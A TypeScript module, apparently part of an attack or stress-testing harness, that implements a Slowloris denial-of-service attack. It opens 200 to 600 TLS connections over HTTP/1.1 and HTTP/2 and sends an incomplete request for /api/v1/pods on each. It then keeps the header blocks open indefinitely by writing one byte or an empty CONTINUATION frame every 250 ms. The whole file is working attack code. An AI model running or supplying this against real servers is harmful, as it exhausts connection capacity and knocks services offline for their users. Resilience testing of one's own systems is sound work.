import type { TLSSocket } from 'node:tls';
import type { Attack } from '../attack.ts';
import { FRAME, frame, headerBlock, preface, requestFields } from '../frames.ts';
import { dialTls } from '../place.ts';
import { hold, swarm } from '../swarm.ts';

const BEAT_MS = 250;

/** Slowloris: headers that come a few bytes at a time and are never complete. */
export const slowHeaders: Attack = {
  name: 'slow-headers',
  summary: 'sends headers a byte at a time on 200 to 600 connections, over HTTP/1.1 and HTTP/2',
  async start(stage, signal) {
    const sockets: { socket: TLSSocket; isHttp2: boolean }[] = [];
    await swarm(stage.size(200, 600), 20, signal, async (index) => {
      const isHttp2 = index % 2 === 0;
      const socket = await dialTls(stage.place, isHttp2 ? 'h2' : 'http/1.1', signal);
      if (socket === undefined) return stage.tally.answer(0);
      stage.tally.send();
      socket.resume();
      const block = headerBlock(requestFields('/api/v1/pods'));
      socket.write(
        isHttp2
          ? Buffer.concat([preface(), frame(FRAME.headers, 0, 1, block)])
          : 'GET /api/v1/pods HTTP/1.1\r\nHost: localhost\r\n',
      );
      sockets.push({ socket, isHttp2 });
    });
    const until = AbortSignal.any([signal, AbortSignal.timeout(stage.holdMs)]);
    while (!until.aborted && sockets.some(({ socket }) => !socket.destroyed)) {
      await hold(BEAT_MS, until);
      for (const { socket, isHttp2 } of sockets)
        if (socket.writable) socket.write(isHttp2 ? frame(FRAME.continuation, 0, 1) : 'X');
    }
    return [];
  },
};
